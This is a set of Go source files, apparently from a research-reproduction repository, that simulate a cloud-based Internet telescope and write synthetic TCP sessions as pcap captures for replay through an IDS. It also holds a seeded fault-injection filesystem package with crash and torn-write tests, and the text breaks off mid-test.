	src, err := pcapio.OpenCapture(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	replayed, stats, err := ids.ScanCapture(src, engine)
	if err != nil {
		t.Fatal(err)
	}
	if stats.DecodeErrors != 0 {
		t.Fatalf("decode errors = %d", stats.DecodeErrors)
	}
	if len(replayed) != len(direct) {
		t.Fatalf("replayed %d events, direct %d", len(replayed), len(direct))
	}
	for i := range direct {
		if direct[i].SID != replayed[i].SID || direct[i].Src != replayed[i].Src {
			t.Fatalf("event %d differs after reconstruction", i)
		}
	}
}
