package telescope

import (
	"fmt"
	"hash/fnv"
	"net/netip"
	"time"

	"repro/internal/netsim"
	"repro/internal/packet"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
)

// SimConfig tunes the simulated telescope.
type SimConfig struct {
	// Seed drives instance address assignment and TCP details.
	Seed int64
	// InstanceLifetime is how long each instance keeps its address before
	// being replaced (the paper found ~10 minutes optimal). Zero means 10
	// minutes.
	InstanceLifetime time.Duration
	// Concurrent is the number of instances live at once (the real
	// deployment ran ~300). Zero means 30, a scaled-down default.
	Concurrent int
	// PoolPrefixes is the cloud address space instances draw from. Empty
	// means a built-in set of provider-like prefixes.
	PoolPrefixes []string
}

func (c SimConfig) withDefaults() SimConfig {
	if c.InstanceLifetime == 0 {
		c.InstanceLifetime = 10 * time.Minute
	}
	if c.Concurrent == 0 {
		c.Concurrent = 30
	}
	if len(c.PoolPrefixes) == 0 {
		c.PoolPrefixes = []string{
			"3.208.0.0/16", "18.204.0.0/16", "34.192.0.0/16",
			"44.192.0.0/16", "52.0.0.0/16", "54.144.0.0/16",
		}
	}
	return c
}

// Telescope is the simulated deployment.
type Telescope struct {
	cfg  SimConfig
	pool *netsim.Pool
}

// NewSim creates a simulated telescope.
func NewSim(cfg SimConfig) *Telescope {
	cfg = cfg.withDefaults()
	return &Telescope{
		cfg:  cfg,
		pool: netsim.MustPool(cfg.Seed, cfg.PoolPrefixes...),
	}
}

// InstanceAt returns the telescope endpoint that receives a session starting
// at time t, choosing among the concurrently live instances. The mapping is
// a pure function of (epoch, slot, seed): instances churn every lifetime
// period, and addresses recur the way cloud reallocation recurs.
func (t *Telescope) InstanceAt(at time.Time, slotHint uint64) netip.Addr {
	epoch := at.Unix() / int64(t.cfg.InstanceLifetime/time.Second)
	slot := slotHint % uint64(t.cfg.Concurrent)
	h := fnv.New64a()
	var buf [24]byte
	put64(buf[0:8], uint64(epoch))
	put64(buf[8:16], slot)
	put64(buf[16:24], uint64(t.cfg.Seed))
	h.Write(buf[:])
	return t.addrFromHash(h.Sum64())
}

func put64(b []byte, v uint64) {
	for i := 0; i < 8; i++ {
		b[i] = byte(v >> (8 * i))
	}
}

// addrFromHash maps a hash onto the pool's address space deterministically.
func (t *Telescope) addrFromHash(h uint64) netip.Addr {
	n := h % t.pool.Size()
	// Walk the pool's prefixes the same way Pool.Next does, but indexed
	// rather than random so the mapping is stable.
	return t.pool.AddrAt(n)
}

// Session materializes one blueprint into a reassembled session record with
// the receiving instance filled in.
func (t *Telescope) Session(bp scanner.Blueprint) tcpasm.Session {
	srcPort := uint16(32768 + (hash64(bp.Src.String())+uint64(bp.Time.UnixNano()))%28000)
	dst := t.InstanceAt(bp.Time, hash64(bp.Src.String()))
	return tcpasm.Session{
		Client:     packet.Endpoint{Addr: bp.Src, Port: srcPort},
		Server:     packet.Endpoint{Addr: dst, Port: bp.DstPort},
		Start:      bp.Time,
		End:        bp.Time.Add(time.Duration(2+len(bp.Payload)/1200) * 120 * time.Millisecond),
		ClientData: bp.Payload,
		Packets:    5 + len(bp.Payload)/1200,
		Complete:   true,
		Closed:     true,
	}
}

// BlueprintSource is a pull iterator over a workload. scanner.Stream
// implements it natively; SliceSource adapts a materialized slice.
type BlueprintSource interface {
	// Next returns the next blueprint, or false when exhausted.
	Next() (scanner.Blueprint, bool)
}

// SliceSource adapts a materialized workload to BlueprintSource.
type SliceSource struct {
	bps []scanner.Blueprint
	i   int
}

// NewSliceSource returns a source that yields bps in order.
func NewSliceSource(bps []scanner.Blueprint) *SliceSource {
	return &SliceSource{bps: bps}
}

// Next implements BlueprintSource.
func (s *SliceSource) Next() (scanner.Blueprint, bool) {
	if s.i >= len(s.bps) {
		return scanner.Blueprint{}, false
	}
	bp := s.bps[s.i]
	s.i++
	return bp, true
}

// SessionSeq is a pull iterator of session records: each blueprint drawn
// from the source, materialized through Session. This is the single
// generator every session-consuming API drains.
type SessionSeq struct {
	t   *Telescope
	src BlueprintSource
}

// SessionSeq returns the lazy session iterator over src.
func (t *Telescope) SessionSeq(src BlueprintSource) *SessionSeq {
	return &SessionSeq{t: t, src: src}
}

// Next returns the next session, or false when the source is exhausted.
func (q *SessionSeq) Next() (tcpasm.Session, bool) {
	bp, ok := q.src.Next()
	if !ok {
		return tcpasm.Session{}, false
	}
	return q.t.Session(bp), true
}

// EachSession drains src through yield, stopping at the first error.
func (t *Telescope) EachSession(src BlueprintSource, yield func(tcpasm.Session) error) error {
	for {
		bp, ok := src.Next()
		if !ok {
			return nil
		}
		if err := yield(t.Session(bp)); err != nil {
			return err
		}
	}
}

// Sessions materializes a whole workload (the fast path used by large
// experiments; byte-identical analysis inputs to the pcap path). It is a
// thin wrapper over SessionSeq.
func (t *Telescope) Sessions(bps []scanner.Blueprint) []tcpasm.Session {
	out := make([]tcpasm.Session, 0, len(bps))
	seq := t.SessionSeq(NewSliceSource(bps))
	for {
		s, ok := seq.Next()
		if !ok {
			return out
		}
		out = append(out, s)
	}
}

func hash64(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	return h.Sum64()
}

// PacketWriter is the capture sink WritePcap emits into; both the classic
// pcap writer and the pcapng writer satisfy it.
type PacketWriter interface {
	WritePacket(ts time.Time, data []byte) error
	Flush() error
}

// WritePcap converts blueprints into a full packet capture: for each session
// a three-way handshake, client payload segments (the instance never sends
// application data), and a FIN teardown, all with valid checksums. The
// result replays through packet decoding, TCP reassembly, and the IDS
// exactly like a real capture. It is a thin wrapper over StreamPcap.
func (t *Telescope) WritePcap(bps []scanner.Blueprint, w PacketWriter) error {
	return t.StreamPcap(NewSliceSource(bps), w)
}

// StreamPcap is WritePcap over a lazy blueprint source: blueprints are drawn,
// materialized into sessions, and synthesized into frames one at a time, so
// the capture streams to w in constant memory regardless of workload size.
func (t *Telescope) StreamPcap(src BlueprintSource, w PacketWriter) error {
	seq := t.SessionSeq(src)
	return writeSessions(seq.Next, w, t.cfg.Seed)
}

// CoverageStats summarizes address-space coverage of a captured workload,
// the numbers behind the paper's Section 4 scale claims.
type CoverageStats struct {
	Sessions           int
	UniqueTelescopeIPs int
	UniqueSourceIPs    int
}

// Coverage computes coverage statistics over materialized sessions.
func Coverage(sessions []tcpasm.Session) CoverageStats {
	dsts := map[netip.Addr]struct{}{}
	srcs := map[netip.Addr]struct{}{}
	for i := range sessions {
		dsts[sessions[i].Server.Addr] = struct{}{}
		srcs[sessions[i].Client.Addr] = struct{}{}
	}
	return CoverageStats{
		Sessions:           len(sessions),
		UniqueTelescopeIPs: len(dsts),
		UniqueSourceIPs:    len(srcs),
	}
}

// SessionsToPcap reconstructs canonical wire frames (handshake, client
// payload, teardown) from session records and writes them as a capture.
// This is how live-mode captures — which exist only as session records —
// enter the same post-facto replay path as simulated captures: the
// reconstruction is lossless for everything the IDS inspects (endpoints,
// timing, client bytes). It is a thin wrapper over writeSessions, the one
// generator behind every capture-producing API.
func SessionsToPcap(sessions []tcpasm.Session, w PacketWriter, seed int64) error {
	i := 0
	next := func() (tcpasm.Session, bool) {
		if i >= len(sessions) {
			return tcpasm.Session{}, false
		}
		s := sessions[i]
		i++
		return s, true
	}
	return writeSessions(next, w, seed)
}

// writeSessions drains a session iterator into a capture writer through one
// reused frame generator and one reused frame buffer.
func writeSessions(next func() (tcpasm.Session, bool), w PacketWriter, seed int64) error {
	g := frameGen{b: packet.NewBuilder(seed)}
	buf := make([]byte, 0, 2048)
	for i := 0; ; i++ {
		s, ok := next()
		if !ok {
			return w.Flush()
		}
		g.start(seed, &s)
		for {
			ts, frame, ok, err := g.next(buf[:0])
			if err != nil {
				return fmt.Errorf("telescope: session %d: %w", i, err)
			}
			if !ok {
				break
			}
			if err := w.WritePacket(ts, frame); err != nil {
				return err
			}
			buf = frame // keep the (possibly grown) capacity
		}
	}
}

// frameMSS is the synthetic client's maximum segment size: payloads larger
// than this split across PSH segments, as in the original capture writer.
const frameMSS = 1200

// sessionFrameSeed derives the per-session builder seed: FNV-1a over the
// study seed and the session's identity (endpoints, start time). Reseeding
// per session makes frame bytes a pure function of (seed, session), so any
// partition of the workload across generators synthesizes identical frames.
func sessionFrameSeed(seed int64, s *tcpasm.Session) int64 {
	var buf [28]byte
	put64(buf[0:8], uint64(seed))
	ca, sa := s.Client.Addr.As4(), s.Server.Addr.As4()
	copy(buf[8:12], ca[:])
	buf[12] = byte(s.Client.Port >> 8)
	buf[13] = byte(s.Client.Port)
	copy(buf[14:18], sa[:])
	buf[18] = byte(s.Server.Port >> 8)
	buf[19] = byte(s.Server.Port)
	put64(buf[20:28], uint64(s.Start.UnixNano()))
	h := fnv.New64a()
	h.Write(buf[:])
	return int64(h.Sum64())
}

// Frame-generator stages, in wire order.
const (
	stageSYN = iota
	stageSYNACK
	stageACK
	stageData
	stageFIN
	stageFINACK
	stageDone
)

// frameGen emits one session's canonical wire frames — handshake, client
// payload segments, teardown — one frame per next call, 20 ms apart,
// synthesized into the caller's buffer. The builder is reseeded per session
// (see sessionFrameSeed), so generators running in parallel over disjoint
// session sets produce exactly the frames a single sequential writer would.
type frameGen struct {
	b      *packet.Builder
	s      tcpasm.Session
	isn    uint32
	srvISN uint32
	seq    uint32
	ts     time.Time
	stage  int
	off    int
}

// start arms the generator for one session.
func (g *frameGen) start(seed int64, s *tcpasm.Session) {
	g.s = *s
	g.b.Reset(sessionFrameSeed(seed, s))
	g.isn = g.b.RandomISN()
	g.srvISN = g.b.RandomISN()
	g.seq = g.isn + 1
	g.ts = s.Start
	g.stage = stageSYN
	g.off = 0
}

// next appends the session's next frame to dst and returns its capture
// timestamp; ok is false once the teardown has been emitted.
func (g *frameGen) next(dst []byte) (time.Time, []byte, bool, error) {
	if g.stage == stageDone {
		return time.Time{}, nil, false, nil
	}
	cli, srv := g.s.Client, g.s.Server
	var seg packet.Segment
	switch g.stage {
	case stageSYN:
		seg = packet.Segment{Src: cli, Dst: srv, Seq: g.isn, Flags: packet.FlagSYN}
		g.stage = stageSYNACK
	case stageSYNACK:
		seg = packet.Segment{Src: srv, Dst: cli, Seq: g.srvISN, Ack: g.isn + 1, Flags: packet.FlagSYN | packet.FlagACK}
		g.stage = stageACK
	case stageACK:
		seg = packet.Segment{Src: cli, Dst: srv, Seq: g.isn + 1, Ack: g.srvISN + 1, Flags: packet.FlagACK}
		if len(g.s.ClientData) > 0 {
			g.stage = stageData
		} else {
			g.stage = stageFIN
		}
	case stageData:
		data := g.s.ClientData
		end := g.off + frameMSS
		if end > len(data) {
			end = len(data)
		}
		seg = packet.Segment{
			Src: cli, Dst: srv,
			Seq: g.seq, Ack: g.srvISN + 1,
			Flags:   packet.FlagPSH | packet.FlagACK,
			Payload: data[g.off:end],
		}
		g.seq += uint32(end - g.off)
		g.off = end
		if g.off >= len(data) {
			g.stage = stageFIN
		}
	case stageFIN:
		seg = packet.Segment{Src: cli, Dst: srv, Seq: g.seq, Ack: g.srvISN + 1, Flags: packet.FlagFIN | packet.FlagACK}
		g.stage = stageFINACK
	case stageFINACK:
		seg = packet.Segment{Src: srv, Dst: cli, Seq: g.srvISN + 1, Ack: g.seq + 1, Flags: packet.FlagFIN | packet.FlagACK}
		g.stage = stageDone
	}
	frame, err := g.b.BuildTo(dst, seg)
	if err != nil {
		return time.Time{}, nil, false, err
	}
	ts := g.ts
	g.ts = g.ts.Add(20 * time.Millisecond)
	return ts, frame, true, nil
}
