// Package telescope implements DSCOPE, the paper's cloud-based interactive
// Internet telescope, in two modes:
//
//   - Simulated mode: a deterministic model of the deployment — a fleet of
//     short-lived instances (10-minute lifetime) cycling pseudorandomly
//     through cloud IPv4 space — that converts scanner blueprints into
//     captured TCP sessions, either directly or as byte-exact pcap files
//     (handshake, payload segments, teardown) for post-facto IDS replay.
//   - Live mode (listener.go): real TCP listeners that accept connections,
//     send no application-layer response, and record the client banner —
//     the actual DSCOPE instance behaviour, runnable on loopback.
//
// Both modes yield the same session records, so everything downstream of
// capture is mode-agnostic.
package telescope

import (
	"fmt"
	"hash/fnv"
	"net/netip"
	"time"

	"repro/internal/netsim"
	"repro/internal/packet"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
)

// SimConfig tunes the simulated telescope.
type SimConfig struct {
	// Seed drives instance address assignment and TCP details.
	Seed int64
	// InstanceLifetime is how long each instance keeps its address before
	// being replaced (the paper found ~10 minutes optimal). Zero means 10
	// minutes.
	InstanceLifetime time.Duration
	// Concurrent is the number of instances live at once (the real
	// deployment ran ~300). Zero means 30, a scaled-down default.
	Concurrent int
	// PoolPrefixes is the cloud address space instances draw from. Empty
	// means a built-in set of provider-like prefixes.
	PoolPrefixes []string
}

func (c SimConfig) withDefaults() SimConfig {
	if c.InstanceLifetime == 0 {
		c.InstanceLifetime = 10 * time.Minute
	}
	if c.Concurrent == 0 {
		c.Concurrent = 30
	}
	if len(c.PoolPrefixes) == 0 {
		c.PoolPrefixes = []string{
			"3.208.0.0/16", "18.204.0.0/16", "34.192.0.0/16",
			"44.192.0.0/16", "52.0.0.0/16", "54.144.0.0/16",
		}
	}
	return c
}

// Telescope is the simulated deployment.
type Telescope struct {
	cfg  SimConfig
	pool *netsim.Pool
}

// NewSim creates a simulated telescope.
func NewSim(cfg SimConfig) *Telescope {
	cfg = cfg.withDefaults()
	return &Telescope{
		cfg:  cfg,
		pool: netsim.MustPool(cfg.Seed, cfg.PoolPrefixes...),
	}
}

// InstanceAt returns the telescope endpoint that receives a session starting
// at time t, choosing among the concurrently live instances. The mapping is
// a pure function of (epoch, slot, seed): instances churn every lifetime
// period, and addresses recur the way cloud reallocation recurs.
func (t *Telescope) InstanceAt(at time.Time, slotHint uint64) netip.Addr {
	epoch := at.Unix() / int64(t.cfg.InstanceLifetime/time.Second)
	slot := slotHint % uint64(t.cfg.Concurrent)
	h := fnv.New64a()
	var buf [24]byte
	put64(buf[0:8], uint64(epoch))
	put64(buf[8:16], slot)
	put64(buf[16:24], uint64(t.cfg.Seed))
	h.Write(buf[:])
	return t.addrFromHash(h.Sum64())
}

func put64(b []byte, v uint64) {
	for i := 0; i < 8; i++ {
		b[i] = byte(v >> (8 * i))
	}
}

// addrFromHash maps a hash onto the pool's address space deterministically.
func (t *Telescope) addrFromHash(h uint64) netip.Addr {
	n := h % t.pool.Size()
	// Walk the pool's prefixes the same way Pool.Next does, but indexed
	// rather than random so the mapping is stable.
	return t.pool.AddrAt(n)
}

// Session materializes one blueprint into a reassembled session record with
// the receiving instance filled in.
func (t *Telescope) Session(bp scanner.Blueprint) tcpasm.Session {
	srcPort := uint16(32768 + (hash64(bp.Src.String())+uint64(bp.Time.UnixNano()))%28000)
	dst := t.InstanceAt(bp.Time, hash64(bp.Src.String()))
	return tcpasm.Session{
		Client:     packet.Endpoint{Addr: bp.Src, Port: srcPort},
		Server:     packet.Endpoint{Addr: dst, Port: bp.DstPort},
		Start:      bp.Time,
		End:        bp.Time.Add(time.Duration(2+len(bp.Payload)/1200) * 120 * time.Millisecond),
		ClientData: bp.Payload,
		Packets:    5 + len(bp.Payload)/1200,
		Complete:   true,
		Closed:     true,
	}
}

// Sessions materializes a whole workload (the fast path used by large
// experiments; byte-identical analysis inputs to the pcap path).
func (t *Telescope) Sessions(bps []scanner.Blueprint) []tcpasm.Session {
	out := make([]tcpasm.Session, len(bps))
	for i, bp := range bps {
		out[i] = t.Session(bp)
	}
	return out
}

func hash64(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	return h.Sum64()
}

// PacketWriter is the capture sink WritePcap emits into; both the classic
// pcap writer and the pcapng writer satisfy it.
type PacketWriter interface {
	WritePacket(ts time.Time, data []byte) error
	Flush() error
}

// WritePcap converts blueprints into a full packet capture: for each session
// a three-way handshake, client payload segments (the instance never sends
// application data), and a FIN teardown, all with valid checksums. The
// result replays through packet decoding, TCP reassembly, and the IDS
// exactly like a real capture.
func (t *Telescope) WritePcap(bps []scanner.Blueprint, w PacketWriter) error {
	b := packet.NewBuilder(t.cfg.Seed)
	const mss = 1200
	for i := range bps {
		bp := &bps[i]
		s := t.Session(*bp)
		cli := s.Client
		srv := s.Server
		isn := b.RandomISN()
		srvISN := b.RandomISN()
		ts := bp.Time

		write := func(seg packet.Segment) error {
			frame, err := b.Build(seg)
			if err != nil {
				return err
			}
			if err := w.WritePacket(ts, frame); err != nil {
				return err
			}
			ts = ts.Add(20 * time.Millisecond)
			return nil
		}

		if err := write(packet.Segment{Src: cli, Dst: srv, Seq: isn, Flags: packet.FlagSYN}); err != nil {
			return fmt.Errorf("telescope: session %d: %w", i, err)
		}
		if err := write(packet.Segment{Src: srv, Dst: cli, Seq: srvISN, Ack: isn + 1, Flags: packet.FlagSYN | packet.FlagACK}); err != nil {
			return err
		}
		if err := write(packet.Segment{Src: cli, Dst: srv, Seq: isn + 1, Ack: srvISN + 1, Flags: packet.FlagACK}); err != nil {
			return err
		}
		seq := isn + 1
		payload := bp.Payload
		for off := 0; off < len(payload); off += mss {
			end := off + mss
			if end > len(payload) {
				end = len(payload)
			}
			if err := write(packet.Segment{
				Src: cli, Dst: srv,
				Seq: seq, Ack: srvISN + 1,
				Flags:   packet.FlagPSH | packet.FlagACK,
				Payload: payload[off:end],
			}); err != nil {
				return err
			}
			seq += uint32(end - off)
		}
		if err := write(packet.Segment{Src: cli, Dst: srv, Seq: seq, Ack: srvISN + 1, Flags: packet.FlagFIN | packet.FlagACK}); err != nil {
			return err
		}
		if err := write(packet.Segment{Src: srv, Dst: cli, Seq: srvISN + 1, Ack: seq + 1, Flags: packet.FlagFIN | packet.FlagACK}); err != nil {
			return err
		}
	}
	return w.Flush()
}

// CoverageStats summarizes address-space coverage of a captured workload,
// the numbers behind the paper's Section 4 scale claims.
type CoverageStats struct {
	Sessions           int
	UniqueTelescopeIPs int
	UniqueSourceIPs    int
}

// Coverage computes coverage statistics over materialized sessions.
func Coverage(sessions []tcpasm.Session) CoverageStats {
	dsts := map[netip.Addr]struct{}{}
	srcs := map[netip.Addr]struct{}{}
	for i := range sessions {
		dsts[sessions[i].Server.Addr] = struct{}{}
		srcs[sessions[i].Client.Addr] = struct{}{}
	}
	return CoverageStats{
		Sessions:           len(sessions),
		UniqueTelescopeIPs: len(dsts),
		UniqueSourceIPs:    len(srcs),
	}
}

// SessionsToPcap reconstructs canonical wire frames (handshake, client
// payload, teardown) from session records and writes them as a capture.
// This is how live-mode captures — which exist only as session records —
// enter the same post-facto replay path as simulated captures: the
// reconstruction is lossless for everything the IDS inspects (endpoints,
// timing, client bytes).
func SessionsToPcap(sessions []tcpasm.Session, w PacketWriter, seed int64) error {
	b := packet.NewBuilder(seed)
	const mss = 1200
	for i := range sessions {
		s := &sessions[i]
		isn := b.RandomISN()
		srvISN := b.RandomISN()
		ts := s.Start
		write := func(seg packet.Segment) error {
			frame, err := b.Build(seg)
			if err != nil {
				return err
			}
			if err := w.WritePacket(ts, frame); err != nil {
				return err
			}
			ts = ts.Add(20 * time.Millisecond)
			return nil
		}
		if err := write(packet.Segment{Src: s.Client, Dst: s.Server, Seq: isn, Flags: packet.FlagSYN}); err != nil {
			return fmt.Errorf("telescope: session %d: %w", i, err)
		}
		if err := write(packet.Segment{Src: s.Server, Dst: s.Client, Seq: srvISN, Ack: isn + 1, Flags: packet.FlagSYN | packet.FlagACK}); err != nil {
			return err
		}
		if err := write(packet.Segment{Src: s.Client, Dst: s.Server, Seq: isn + 1, Ack: srvISN + 1, Flags: packet.FlagACK}); err != nil {
			return err
		}
		seq := isn + 1
		for off := 0; off < len(s.ClientData); off += mss {
			end := off + mss
			if end > len(s.ClientData) {
				end = len(s.ClientData)
			}
			if err := write(packet.Segment{
				Src: s.Client, Dst: s.Server,
				Seq: seq, Ack: srvISN + 1,
				Flags:   packet.FlagPSH | packet.FlagACK,
				Payload: s.ClientData[off:end],
			}); err != nil {
				return err
			}
			seq += uint32(end - off)
		}
		if err := write(packet.Segment{Src: s.Client, Dst: s.Server, Seq: seq, Ack: srvISN + 1, Flags: packet.FlagFIN | packet.FlagACK}); err != nil {
			return err
		}
		if err := write(packet.Segment{Src: s.Server, Dst: s.Client, Seq: srvISN + 1, Ack: seq + 1, Flags: packet.FlagFIN | packet.FlagACK}); err != nil {
			return err
		}
	}
	return w.Flush()
}
