// Package fault is the deterministic fault-injection substrate underneath
// the repo's crash and partition testing. It has two halves:
//
//   - FS, a small VFS interface covering every file operation the durable
//     components (eventstore shards and commit journal, fleet spool and
//     watermark journal, ingest checkpoints) perform. Production code uses
//     the passthrough OS implementation — *os.File satisfies File directly,
//     so the only cost is an interface call in front of each syscall. Tests
//     substitute SimFS, an in-memory filesystem that models the page cache
//     (written bytes are volatile until Sync) and injects seeded faults:
//     torn writes, short writes, ENOSPC, failed fsyncs with partial
//     durability, and hard crash points at any operation step.
//
//   - Dialer/Conn/Listener wrappers that inject seeded connection faults —
//     resets, byte-level truncation, delivery delay, and asymmetric
//     partitions — between the fleet shipper and listener.
//
// Everything is seeded: the same seed yields the same fault schedule, which
// is what lets internal/simtest replay a failing run with -fault.seed=N.
// FoundationDB-style simulation testing is the model: instead of a handful
// of hand-picked crash tests, a seeded search over crash points and network
// faults, with the standing invariants (no acked batch lost, no event
// applied twice) asserted after every recovery.
package fault

import (
	"io"
	"os"
)

// File is the subset of *os.File the durable components use. *os.File
// satisfies it with no wrapper.
type File interface {
	io.Writer
	io.ReaderAt
	io.Closer
	Seek(offset int64, whence int) (int64, error)
	Truncate(size int64) error
	Sync() error
}

// FS is the filesystem surface the durable components are written against.
// The OS implementation passes every call straight through to package os.
type FS interface {
	MkdirAll(path string, perm os.FileMode) error
	OpenFile(name string, flag int, perm os.FileMode) (File, error)
	ReadFile(name string) ([]byte, error)
	WriteFile(name string, data []byte, perm os.FileMode) error
	Rename(oldpath, newpath string) error
	Remove(name string) error
	// ReadDir returns the names (not paths) of the files in dir, sorted.
	// A missing directory is not an error: it reads as empty, matching how
	// the self-describing stores (timeline segments, checkpoints) treat a
	// first open. Subdirectories are not listed.
	ReadDir(dir string) ([]string, error)
}

// OS is the passthrough filesystem: production code's default.
var OS FS = osFS{}

type osFS struct{}

func (osFS) MkdirAll(path string, perm os.FileMode) error { return os.MkdirAll(path, perm) }

func (osFS) OpenFile(name string, flag int, perm os.FileMode) (File, error) {
	f, err := os.OpenFile(name, flag, perm)
	if err != nil {
		return nil, err // typed-nil-in-interface if returned directly
	}
	return f, nil
}

func (osFS) ReadFile(name string) ([]byte, error) { return os.ReadFile(name) }

func (osFS) WriteFile(name string, data []byte, perm os.FileMode) error {
	return os.WriteFile(name, data, perm)
}

func (osFS) Rename(oldpath, newpath string) error { return os.Rename(oldpath, newpath) }
func (osFS) Remove(name string) error             { return os.Remove(name) }

func (osFS) ReadDir(dir string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if os.IsNotExist(err) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	names := make([]string, 0, len(entries))
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		names = append(names, e.Name())
	}
	return names, nil // os.ReadDir already sorts by name
}

// Or returns fs, or OS when fs is nil — the "zero Config means production"
// helper every threaded component uses.
func Or(fs FS) FS {
	if fs == nil {
		return OS
	}
	return fs
}
