package fault

import (
	"errors"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestOSPassthrough exercises the production FS against a real tempdir: the
// interface must behave exactly like package os for the operations the
// durable components use.
func TestOSPassthrough(t *testing.T) {
	dir := t.TempDir()
	fs := Or(nil)
	if fs != OS {
		t.Fatalf("Or(nil) = %v, want OS", fs)
	}
	if err := fs.MkdirAll(filepath.Join(dir, "a", "b"), 0o755); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "a", "b", "f")
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	if err := f.Sync(); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 5)
	if _, err := f.ReadAt(buf, 0); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "hello" {
		t.Fatalf("ReadAt = %q", buf)
	}
	if err := f.Truncate(2); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	b, err := fs.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != "he" {
		t.Fatalf("after truncate: %q", b)
	}
	if err := fs.WriteFile(path+".2", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := fs.Rename(path+".2", path+".3"); err != nil {
		t.Fatal(err)
	}
	if err := fs.Remove(path + ".3"); err != nil {
		t.Fatal(err)
	}
}

// TestSimFSPageCache checks the heart of the model: writes are visible to
// reads immediately but volatile; Sync makes them durable; a crash + restart
// reverts each file to its durable prefix plus at most a seeded suffix of
// the unsynced tail.
func TestSimFSPageCache(t *testing.T) {
	fs := NewSimFS(1, Profile{})
	f, err := fs.OpenFile("w", os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("durable")); err != nil {
		t.Fatal(err)
	}
	if err := f.Sync(); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("-volatile")); err != nil {
		t.Fatal(err)
	}
	// Reads see everything written, synced or not.
	b, err := fs.ReadFile("w")
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != "durable-volatile" {
		t.Fatalf("read = %q", b)
	}
	d, ok := fs.DurableBytes("w")
	if !ok || string(d) != "durable" {
		t.Fatalf("durable = %q, %v", d, ok)
	}

	fs.Crash()
	if _, err := fs.ReadFile("w"); !errors.Is(err, ErrCrashed) {
		t.Fatalf("read after crash: %v", err)
	}
	if _, err := f.Write([]byte("z")); !errors.Is(err, ErrCrashed) {
		t.Fatalf("write after crash: %v", err)
	}
	fs.Restart()
	b, err = fs.ReadFile("w")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(b), "durable") || len(b) > len("durable-volatile") {
		t.Fatalf("after restart: %q — must be durable content + prefix of the torn tail", b)
	}
	if !strings.HasPrefix("durable-volatile", string(b)) {
		t.Fatalf("after restart: %q is not a prefix of the written content", b)
	}
	// The old handle died with the process.
	if _, err := f.Write([]byte("z")); !errors.Is(err, os.ErrClosed) {
		t.Fatalf("stale handle write: %v", err)
	}
}

// TestSimFSCrashSchedule checks that CrashEvery fires, operations fail with
// ErrCrashed once dead, and Restart revives the FS with a new crash point.
func TestSimFSCrashSchedule(t *testing.T) {
	fs := NewSimFS(7, Profile{CrashEvery: 10})
	ops, crashSeen := 0, 0
	for i := 0; i < 500; i++ {
		err := fs.WriteFile("f", []byte("x"), 0o644)
		ops++
		if errors.Is(err, ErrCrashed) {
			if !fs.Crashed() {
				t.Fatal("ErrCrashed but Crashed() false")
			}
			crashSeen++
			fs.Restart()
		}
	}
	if crashSeen == 0 {
		t.Fatalf("no crash point fired in %d ops with CrashEvery=10", ops)
	}
	if got := fs.Crashes(); got != crashSeen {
		t.Fatalf("Crashes() = %d, observed %d", got, crashSeen)
	}
}

// TestSimFSDeterminism: two instances with the same seed and profile must
// produce an identical fault trace — the property seed replay rests on.
func TestSimFSDeterminism(t *testing.T) {
	trace := func(seed int64) string {
		fs := NewSimFS(seed, Profile{TornWrite: 0.2, ENOSPC: 0.1, SyncFail: 0.2, CrashEvery: 40})
		var sb strings.Builder
		f, _ := fs.OpenFile("t", os.O_CREATE|os.O_RDWR, 0o644)
		for i := 0; i < 300; i++ {
			if fs.Crashed() {
				fs.Restart()
				var err error
				f, err = fs.OpenFile("t", os.O_CREATE|os.O_RDWR|os.O_APPEND, 0o644)
				if errors.Is(err, ErrCrashed) {
					sb.WriteString("C") // crashed again mid-recovery
					continue
				} else if err != nil {
					t.Fatal(err)
				}
				b, _ := fs.ReadFile("t")
				sb.WriteString("R")
				sb.WriteByte(byte('0' + len(b)%10))
				continue
			}
			_, werr := f.Write([]byte("abcdef"))
			serr := f.Sync()
			switch {
			case errors.Is(werr, ErrCrashed) || errors.Is(serr, ErrCrashed):
				sb.WriteString("C")
			case werr != nil || serr != nil:
				sb.WriteString("F")
			default:
				sb.WriteString(".")
			}
		}
		return sb.String()
	}
	a, b, c := trace(42), trace(42), trace(43)
	if a != b {
		t.Fatalf("same seed diverged:\n%s\n%s", a, b)
	}
	if a == c {
		t.Fatal("different seeds produced identical traces (suspicious)")
	}
	if !strings.ContainsAny(a, "FC") {
		t.Fatalf("trace with aggressive profile shows no faults: %s", a)
	}
}

// TestSimFSTornWrite checks a torn write persists exactly the reported
// prefix.
func TestSimFSTornWrite(t *testing.T) {
	for seed := int64(0); seed < 50; seed++ {
		fs := NewSimFS(seed, Profile{TornWrite: 1})
		f, err := fs.OpenFile("t", os.O_CREATE|os.O_RDWR, 0o644)
		if err != nil {
			t.Fatal(err)
		}
		n, err := f.Write([]byte("0123456789"))
		if !errors.Is(err, ErrInjected) {
			t.Fatalf("seed %d: want injected error, got %v", seed, err)
		}
		if n < 0 || n > 10 {
			t.Fatalf("seed %d: torn write n=%d", seed, n)
		}
		b, _ := fs.ReadFile("t")
		if string(b) != "0123456789"[:n] {
